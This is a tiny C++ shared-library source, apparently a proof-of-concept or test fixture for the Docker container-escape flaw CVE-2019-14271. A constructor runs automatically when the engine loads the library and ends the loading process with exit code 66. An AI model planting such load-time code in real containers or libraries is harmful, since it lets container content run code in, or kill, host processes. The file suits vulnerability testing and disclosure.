// SPDX-License-Identifier: GPL-3.0-or-later
// A library of the container's (CVE-2019-14271): whoever of the engine loads it, ends.
#include <unistd.h>

namespace {

__attribute__((constructor)) void takeOver() {
    ::_exit(66);
}

} // namespace
